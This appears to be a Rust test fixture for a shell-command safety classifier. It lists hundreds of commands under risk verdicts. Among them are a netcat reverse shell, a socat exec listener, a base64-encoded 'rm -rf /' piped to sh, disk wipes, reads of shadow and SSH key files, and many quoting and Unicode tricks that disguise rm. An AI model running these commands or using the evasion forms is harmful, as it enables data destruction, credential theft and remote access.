//! Command lines and how each must be read: the word, `elevated`, the classes.

/// Verdict, and the lines that have it.
#[rustfmt::skip]
pub(super) const VERDICTS: &[(&str, &[&str])] = &[
    ("harmless", &[
        "true", "uptime", "uptime -p", "/usr/bin/uptime", "/bin/uptime", "whoami", "id", "id deploy", "hostname",
        "hostname -f", "uname -a", "date", "date +%s", "date -u '+%Y-%m-%d %H:%M'", "echo hello",
        "echo -n 'hello  world'", "echo \"it's fine\"", "sleep 5", "pwd", "ls", "ls -la /srv",
        "ls --color=auto /var/log", "ls --almost-all -lhS /opt/app", "ls -la -- -odd", "stat /srv/app/config.yml",
        "df -h", "df -hT /", "du -sh /srv", "du -sh --max-depth=1 /srv", "free -m", "nproc --all", "lscpu",
        "lsblk -f", "lsmod", "ps aux", "ps -ef", "ps -e -o pid,comm", "pgrep -a nginx", "top -b -n 1", "ss -tlnp",
        "netstat -tulpn", "ip addr", "ip addr show eth0", "ip route", "cat /etc/os-release", "cat /proc/loadavg",
        "cat /var/log/syslog", "cat", "tail -n 50 /var/log/nginx/error.log", "tail -n50 /var/log/syslog",
        "tail -f /var/log/syslog", "head -c 100 /var/log/dpkg.log", "wc -l /var/log/syslog",
        "grep error /var/log/syslog", "grep -i -e 'connection refused' /var/log/syslog",
        "find /srv -name '*.log' -mtime +7", "systemctl status nginx", "systemctl status --no-pager -n 20 nginx",
        "systemctl is-active nginx", "systemctl list-units --failed", "journalctl -u nginx -n 100 --no-pager",
        "journalctl --since '1 hour ago'", "docker ps", "docker ps -a --no-trunc", "docker ps --format '{{.Names}}'",
        "docker logs --tail 100 web", "kubectl get pods", "kubectl get pods -n prod -o wide", "kubectl get nodes",
        "dmesg", "echo '$HOME'", "echo \\$HOME", "echo \"\\$HOME\"", "echo '*'", "echo \\*", "echo 'hi!'", "ls a#b",
        "echo rm", "echo sudo", "ls rm", "echo  a   b", "uptime\n", "\n\nuptime\n\n", "ls\t-la", "echo 'a\nb'",
        "echo \"a\\\nb\"", "echo 'a'\\''b'",
    ]),
    ("simple network", &[
        "hostname evil", "du --files0-from=/etc/hosts", "ss -K dst 10.0.0.1", "ip link set eth0 down", "iptables -F",
        "nft flush ruleset", "ufw disable", "curl http://10.0.0.1/x", "wget -O- http://10.0.0.1/x", "nc -l 4444",
        "scp x other:y", "dig txt.evil.example", "ping -c 1 10.0.0.1", "scp -t /srv", "scp -f /srv/x",
        "rsync --server --sender -logDtpre.iLsfxC . /srv",
    ]),
    ("simple kernel", &[
        "date -s '2020-01-01'", "modprobe evil", "insmod evil.ko", "sysctl -w kernel.x=1", "umount /mnt", "dmesg -C",
        "kexec -l x", "swapoff -a",
    ]),
    ("simple", &[
        "date 010100002020", "ls --block-size=1", "ls -Z", "ps auxe", "ps -eo pid,comm", "top", "top -n 1",
        "ss -D /tmp/x", "ip -b commands.txt", "cat config.yml", "tail -F /srv/app/app.log",
        "systemctl -H root@other status nginx", "journalctl -fu nginx", "journalctl -D /mnt/evil",
        "docker -H tcp://10.0.0.1 ps", "kubectl get pods -o yaml", "/tmp/ls", "./ls", "ls/../ls", "bin/ls",
        "/home/deploy/bin/ls", "/usr/local/bin/ls", "/opt/app/deploy --release 42", "/bin/../tmp/ls",
        "/usr/bin/../bin/ls", "//bin/ls", "git status", "tar cf x.tar x", "head /var/log/../lib/x", "nohup",
        "test -f x", "ls --x==y", "git-receive-pack repo.git", "git-upload-pack repo.git",
        "/usr/lib/openssh/sftp-server",
    ]),
    ("opaque", &[
        "stat -c %s /srv/app/config.yml", "timeout 5", "builtin cd x", "if true", "while true", "for x in a",
        "function f", "select x in a", "[[ -f x ]]", "[ -f x ]", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "\\X=1",
        ". x", ". ./x", "trap id EXIT", "set -x", "export PATH=/tmp", "unset x", "cd /srv", "exit", "$'\\x72m' -rf /",
        "echo $(id)", "echo \"$(id)\"", "echo \"`id`\"", "echo $HOME", "echo \"$HOME\"", "echo $((1+1))",
        "echo ${x:-y}", "echo *", "ls *.log", "ls ?", "ls [a-z]", "ls ~", "ls a~", "ls x=~", "echo {a,b}",
        "echo a{1..3}", "=ls", "ls =ls", "%1", "^a^b", "git show HEAD^", "!!", "echo hi!", "ls # comment", "ls ;;",
        "; ls", "ls |", "ls |& cat", "| ls", "ls &&", "&& ls", "ls && && ls", "ls |||| x", "cat << EOF", "cat <<< x",
        "cat <(id)", "ls >(id)", "ls >| x", "ls &> x", "ls &>> x", "ls >& x", "ls <> x", "ls >", "ls > > x",
        "ls {fd}> x", "ls (x)", "echo 'unclosed", "echo \"unclosed", "echo \\", "", " ", "\n", "r\\\nm x",
        "uptime\\\n", "uptime\r", "r\u{200b}m x", "ls café", "ls 'café'", "гm x", "\u{1b}[2Jls", "ls \u{7}",
        "ls \u{7f}", "\"\"", "'' x",
    ]),
    ("simple credential", &[
        "cat /var/log/../../etc/shadow", "cat /etc/shadow", "grep -r password /srv",
        "grep -f /etc/shadow /var/log/syslog", "kubectl get pods,secrets", "kubectl get secrets",
        "kubectl --kubeconfig /tmp/k get pods", "vault read secret/x", "openssl rsa -in server.key",
        "gpg --export-secret-keys", "printenv", "env", "getent shadow", "ls /root/.ssh", "cat /root/.ssh/id_rsa",
        "echo /proc/1/environ",
    ]),
    ("simple credential user", &[
        "cat /etc/passwd", "chmod 777 /etc/passwd",
    ]),
    ("simple destructive", &[
        "find /srv -name '*.log' -delete", "find /srv -fprintf /etc/x y", "journalctl --vacuum-time=1d",
        "rm -rf /srv/app", "rm", "/bin/rm -rf /", "/opt/tools/rm x", "rmdir x", "shred -u x",
        "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "truncate -s 0 app.log", "mv a b", "cp a b",
        "ln -s a b", "tee /etc/x", "wipefs -a /dev/sdb", "lvremove vg/lv", "git push --force", "git clean -fdx",
        "terraform destroy", "dropdb app", "busybox rm x", "nohup rm x", "setsid -f rm x", "setsid --ctty rm x",
        "nice -n 5 rm x", "nice rm x", "ionice -c 3 rm x", "timeout 5 rm x", "timeout -s KILL 5 rm x",
        "timeout 5 timeout 5 timeout 5 rm x", "stdbuf -oL rm x", "stdbuf -o L rm x", "command rm x", "rm \\\n x",
    ]),
    ("opaque destructive", &[
        "find /srv -exec rm {} +", "nice -5 rm x", "ionice -c3 rm x", "timeout --signal=KILL 5 rm x", "command -v rm",
        "command -p rm x", "exec rm x", "time rm x", "coproc rm x", "! rm x", "X=rm", "X=1 rm x", "X+=1 rm x",
        "a[1]=2 rm x", "'X=1' rm x", "alias ls=rm", "r'm' -rf /", "'rm' -rf /", "\"rm\" -rf /", "\\rm -rf /",
        "r\\m -rf /", "''rm x", "$\"rm\" x", "X=rm; $X -rf /", "rm${IFS}-rf${IFS}/", "rm$IFS-rf", "$(echo rm) x",
        "`echo rm` x", "rm {a,b}", "!rm", "# rm x", "(rm x)", "{ rm x; }", "f() { rm x; }", "uptime\r\nrm x",
        "rm\u{a0}x", "uptime \u{15}rm x",
    ]),
    ("opaque destructive shell", &[
        "find /srv -execdir sh -c id +", "sed -i s/a/b/ x", "bash -c 'rm -rf /'", "perl -e 'unlink x'", "xargs rm",
        "parallel rm", "make install", "ansible-playbook x.yml", "chroot /mnt rm x", "nsenter -t 1 -m rm x",
        "flock x rm y", "eval rm x",
    ]),
    ("simple service", &[
        "systemctl restart nginx", "systemctl stop db", "systemctl --no-pager restart nginx",
        "systemctl daemon-reload", "systemctl edit nginx", "systemctl poweroff", "service nginx restart", "reboot",
        "shutdown -h now", "kill -9 1", "kill -l", "pkill -u deploy", "nginx -s reload",
    ]),
    ("opaque container shell", &[
        "docker exec -it web sh",
    ]),
    ("opaque container network", &[
        "docker run --privileged -v /:/host alpine",
    ]),
    ("simple container", &[
        "docker rm -f web", "docker-compose up -d", "kubectl delete pod web-1", "kubectl apply -f x.yml", "crictl ps",
    ]),
    ("opaque container", &[
        "kubectl exec web-1 -- id", "podman run alpine",
    ]),
    ("simple container package", &[
        "helm upgrade app ./chart",
    ]),
    ("opaque shell", &[
        "git -c core.pager=id log", "tar xf x.tar --checkpoint=1 --checkpoint-action=exec=sh",
        "tar -I 'sh -c id' -cf x y", "tar --to-command=id -xf x", "zip -T -TT 'sh #' x y", "sed -n 1p x", "sh -c id",
        "bash script.sh", "dash", "/bin/sh -c id", "zsh -fc id", "python3 -c 'import os'", "python3.12 x.py",
        "ruby -e exit", "node -e 1", "awk 'BEGIN{system(\"id\")}'", "gawk -f x.awk", "vim x", "nano x",
        "less /var/log/syslog", "more x", "man ls", "watch id", "script -c id", "screen -d -m id", "tmux new -d id",
        "strace -f ls", "gdb -p 1", "psql -c '\\! id'", "mysql -e 'system id'", "sqlite3 x.db", "busybox sh",
        "source x", "ls | sh", "echo cm0gLXJmIC8= | base64 -d | sh", "echo cm0gLXJmIC8= | base64 -d", "base64 -d x",
        "xxd -r x",
    ]),
    ("simple destructive network", &[
        "rsync -a --delete a/ b/",
    ]),
    ("opaque network shell", &[
        "rsync -e 'ssh -p 22' a b", "nc -e /bin/sh 10.0.0.1 4444", "vi /etc/hosts",
    ]),
    ("opaque service shell", &[
        "crontab -r", "at now", "systemd-run id",
    ]),
    ("simple package", &[
        "apt-get install nginx", "dpkg -i x.deb", "yum update", "pip install x",
    ]),
    ("opaque package", &[
        "apt-get -o DPkg::Pre-Invoke::=id update",
    ]),
    ("opaque destructive package", &[
        "npm install",
    ]),
    ("simple user", &[
        "useradd eve", "usermod -aG sudo eve", "passwd root", "chmod u+s /bin/bash", "chown root x",
        "setcap cap_setuid+ep x", "visudo",
    ]),
    ("opaque destructive network shell", &[
        "ssh db2 rm -rf /",
    ]),
    ("opaque network", &[
        "socat TCP-LISTEN:1 EXEC:sh",
    ]),
    ("simple destructive kernel", &[
        "mount /dev/sdb /mnt",
    ]),
    ("opaque kernel", &[
        "unshare -r id",
    ]),
    ("simple elevated service", &[
        "sudo systemctl restart nginx", "sudo -n systemctl restart nginx", "su -c 'systemctl restart nginx'",
    ]),
    ("simple elevated", &[
        "sudo -nH id", "sudo uptime", "sudo -- id", "sudo --non-interactive id", "sudo",
    ]),
    ("opaque elevated shell", &[
        "sudo -u postgres psql", "su -s /bin/sh -c id",
    ]),
    ("opaque elevated network", &[
        "sudo -e /etc/hosts",
    ]),
    ("opaque elevated", &[
        "sudo -E id", "sudo -i", "sudo -s", "sudo VAR=1 id", "sudo --preserve-env id", "sudo --non-int id", "sudo -n",
        "sudoedit x", "su -c 'a; b'", "su -c 'a > b'", "su", "su - root", "su --command=id", "su root -c id -- x",
        "runuser -u root id",
    ]),
    ("opaque elevated destructive", &[
        "sudo -i rm x", "sudo -u root rm x", "doas -u root rm x", "pkexec --user root rm x", "su -c 'rm $X'",
    ]),
    ("simple elevated destructive", &[
        "sudo sudo sudo rm x", "doas rm x", "pkexec rm x", "su - root -c 'rm -rf x'", "nohup sudo rm x",
    ]),
    ("opaque elevated destructive shell", &[
        "sudo sh -c 'rm x'",
    ]),
    ("opaque elevated container shell", &[
        "machinectl shell",
    ]),
    ("simple credential destructive", &[
        "env rm x",
    ]),
    ("opaque credential destructive", &[
        "env X=1 rm x", "env -i rm x", "env -S 'rm x'", "env -u PATH rm x",
    ]),
    ("opaque credential", &[
        "ls ~root/.ssh",
    ]),
    ("opaque service", &[
        "kill %1", "\u{202e}shutdown",
    ]),
    ("compound destructive", &[
        "ls; rm x", "ls;rm x", "ls && rm x", "ls || rm x", "ls | rm x", "ls & rm x", "uptime\nrm x",
        "uptime\n\nrm x\n", "uptime &&\nrm x", "ls '\n' ; rm x",
    ]),
    ("compound", &[
        "ls &", "ls ;", "ls > x", "ls >> x", "ls >x", "ls 2>&1", "ls 2>/dev/null", "ls <x", "ls 3>x",
        "uptime; uptime", "uptime | wc -l", "uptime\nuptime", "uptime;\n", "uptime &\n",
    ]),
    ("compound credential user", &[
        "ls > /etc/passwd",
    ]),
    ("opaque credential user", &[
        "> /etc/passwd",
    ]),
    ("compound credential", &[
        "cat < /etc/shadow",
    ]),
];
